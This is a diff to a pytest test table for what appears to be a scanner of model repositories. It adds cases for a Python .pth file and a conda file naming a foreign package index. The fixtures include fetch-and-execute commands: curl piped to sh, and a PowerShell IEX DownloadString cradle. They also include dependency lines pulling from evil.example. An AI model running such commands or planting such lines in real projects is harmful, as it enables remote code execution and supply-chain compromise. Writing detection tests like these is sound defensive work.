@@ -53,6 +53,8 @@ MAP = {"AutoModel": "other/repo--modeling_x.X"}
         pytest.param({"requirements.txt": "x @ https://evil.example/x.whl\n"}, ["requirements-foreign-index"], id="direct URL"),
         pytest.param({"install.sh": "#!/bin/sh\ncurl -s http://x/y | sh\n"}, ["script-in-model", "script-reaches-out"], id="curl to sh"),
         pytest.param({"pytorch_model.bin": "#!/bin/sh\nls\n"}, ["script-disguised"], id="script named as weights"),
+        pytest.param({"evil.pth": "import os; os.getcwd()\n"}, ["script-disguised"], id="path file of Python"),
+        pytest.param({"conda.yaml": "dependencies:\n- pip:\n  - --index-url https://evil.example/simple\n"}, ["requirements-foreign-index"], id="conda with an index"),
         pytest.param({"x.ps1": "IEX (New-Object Net.WebClient).DownloadString('http://x')\n"}, ["script-in-model", "script-reaches-out"], id="powershell"),
         pytest.param({"a\u202egnp.py": "x = 1\n", "config.json": {}}, ["name-deceives"], id="right-to-left name"),
     ],
